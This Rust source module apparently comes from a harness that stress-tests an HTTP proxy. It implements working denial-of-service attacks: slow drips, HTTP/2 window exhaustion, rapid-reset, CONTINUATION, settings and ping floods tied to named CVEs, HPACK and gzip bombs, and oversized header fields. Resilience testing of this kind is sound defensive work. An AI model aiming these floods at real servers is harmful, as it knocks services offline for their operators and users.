//! Attacks by requests: slow, enormous, taken back, or with more in them than meets the eye.

use std::io::{self, Write};
use std::sync::{Arc, OnceLock};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::attacks::{Field, swarm};
use super::connections::{DRIP, drip};
use super::frames::{self, END_HEADERS, END_STREAM};

/// Payload of a frame that every peer takes.
const FRAME: usize = 16 << 10;
/// Streams of a connection for the greatest number that the proxy allows.
const STREAMS: u32 = 100;
/// Bytes in a compression bomb, and requests on one connection.
const BOMB: usize = 10 << 20;

/// Bodies that grow by a byte now and then.
pub(crate) async fn bodies(field: Arc<Field>) {
    let address = field.plain;
    swarm(field, 1000, address, |field, mut stream| async move {
        let head = b"POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n";
        stream.write_all(head).await?;
        field.stands();
        drip(&field, &mut stream, b"y").await
    })
    .await;
}

/// Answers that are taken a byte at a time.
pub(crate) async fn readers(field: Arc<Field>) {
    let address = field.plain;
    swarm(field, 1000, address, |field, mut stream| async move {
        let head = b"GET /1m HTTP/1.1\r\nhost: a\r\n\r\n";
        stream.write_all(head).await?;
        let mut sip = [0; 1];
        stream.read_exact(&mut sip).await?;
        field.stands();
        loop {
            tokio::time::sleep(DRIP).await;
            stream.read_exact(&mut sip).await?;
        }
    })
    .await;
}

/// Answers for which there is no room.
pub(crate) async fn windows(field: Arc<Field>) {
    let address = field.plain;
    swarm(field, 40, address, |field, mut stream| async move {
        stream.write_all(&frames::preface(Some(0))).await?;
        stream.write_all(&frames::settings_ack()).await?;
        let block = frames::get("/1m");
        for number in 0..STREAMS {
            let frame = frames::headers(number * 2 + 1, END_HEADERS | END_STREAM, &block);
            stream.write_all(&frame).await?;
            field.sends();
        }
        field.stands();
        hear(&mut stream).await
    })
    .await;
}

/// Requests that are taken back at once (CVE-2023-44487).
pub(crate) async fn resets(field: Arc<Field>) {
    flood(field, |number| {
        let stream = number * 2 + 1;
        let mut bytes = frames::headers(stream, END_HEADERS | END_STREAM, &frames::get("/1m"));
        bytes.extend(frames::reset(stream));
        bytes
    })
    .await;
}

/// A head without an end (CVE-2024-27316 and others).
pub(crate) async fn continuations(field: Arc<Field>) {
    flood(field, |number| match number {
        0 => frames::headers(1, 0, &frames::get("/")),
        // Fields without indexing, each of a name and a value of a byte.
        _ => frames::continuation(1, &[0, 1, b'x', 1, b'y'].repeat(FRAME / 5)),
    })
    .await;
}

/// Settings that must be acknowledged each (CVE-2019-9515).
pub(crate) async fn settings(field: Arc<Field>) {
    flood(field, |_| frames::settings(None).repeat(100)).await;
}

/// Pings that must be answered each (CVE-2019-9512).
pub(crate) async fn pings(field: Arc<Field>) {
    flood(field, |_| frames::ping().repeat(100)).await;
}

/// Heads that are small on the way and enormous once they are read (CVE-2016-6581).
pub(crate) async fn hpack_bombs(field: Arc<Field>) {
    flood(field, |number| {
        let mut block = frames::get("/");
        match number {
            0 => block.extend(frames::remembered("x", &"y".repeat(4000))),
            _ => block.extend([frames::LAST; FRAME - 64]),
        }
        frames::headers(number * 2 + 1, END_HEADERS | END_STREAM, &block)
    })
    .await;
}

/// A few connections of HTTP/2 that send what `piece` makes, as fast as it is taken, and read all that comes.
async fn flood(field: Arc<Field>, piece: fn(u32) -> Vec<u8>) {
    let address = field.plain;
    swarm(field, 10, address, move |field, mut stream| async move {
        stream.write_all(&frames::preface(None)).await?;
        field.stands();
        let (mut reads, mut writes) = stream.split();
        let write = async {
            // Streams have numbers of 31 bits.
            for number in 0..1 << 30 {
                writes.write_all(&piece(number)).await?;
                field.sends();
            }
            Ok(())
        };
        let read = async {
            let mut heard = vec![0; 64 << 10];
            while reads.read(&mut heard).await? > 0 {}
            Ok(())
        };
        tokio::select! {
            ended = write => ended,
            ended = read => ended,
        }
    })
    .await;
}

/// Requests with one field that is nearly as long as a head may be.
pub(crate) async fn large_fields(field: Arc<Field>) {
    let address = field.plain;
    swarm(field, 50, address, |field, stream| {
        ask(
            field,
            stream,
            format!("x: {}\r\n", "y".repeat(60_000)).into(),
        )
    })
    .await;
}

/// Requests with more fields than there may be, in a head that is not too long.
pub(crate) async fn many_fields(field: Arc<Field>) {
    let address = field.plain;
    swarm(field, 50, address, |field, stream| {
        ask(field, stream, "x: y\r\n".repeat(5000).into())
    })
    .await;
}

/// One request with these fields after the other.
async fn ask(field: Arc<Field>, mut stream: TcpStream, fields: Vec<u8>) -> io::Result<()> {
    let mut request = b"GET / HTTP/1.1\r\nhost: a\r\n".to_vec();
    request.extend(fields);
    request.extend(b"\r\n");
    field.stands();
    let mut heard = [0; 4096];
    loop {
        stream.write_all(&request).await?;
        field.sends();
        if stream.read(&mut heard).await? == 0 {
            return Ok(());
        }
    }
}

/// Requests whose bodies grow when they are unpacked, which is not the proxy's business.
pub(crate) async fn zip_bombs(field: Arc<Field>) {
    let address = field.plain;
    swarm(field, 20, address, |field, mut stream| async move {
        static BODY: OnceLock<Vec<u8>> = OnceLock::new();
        let body = BODY.get_or_init(|| {
            let mut bomb = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
            bomb.write_all(&vec![0; BOMB]).expect("room");
            bomb.finish().expect("room")
        });
        let head = format!(
            "POST / HTTP/1.1\r\nhost: a\r\ncontent-encoding: gzip\r\ncontent-length: {}\r\n\r\n",
            body.len()
        );
        field.stands();
        let mut heard = [0; 4096];
        loop {
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(body).await?;
            field.sends();
            if stream.read(&mut heard).await? == 0 {
                return Ok(());
            }
        }
    })
    .await;
}

/// Reads until the proxy closes.
async fn hear(stream: &mut TcpStream) -> io::Result<()> {
    let mut heard = vec![0; 16 << 10];
    while stream.read(&mut heard).await? > 0 {}
    Ok(())
}
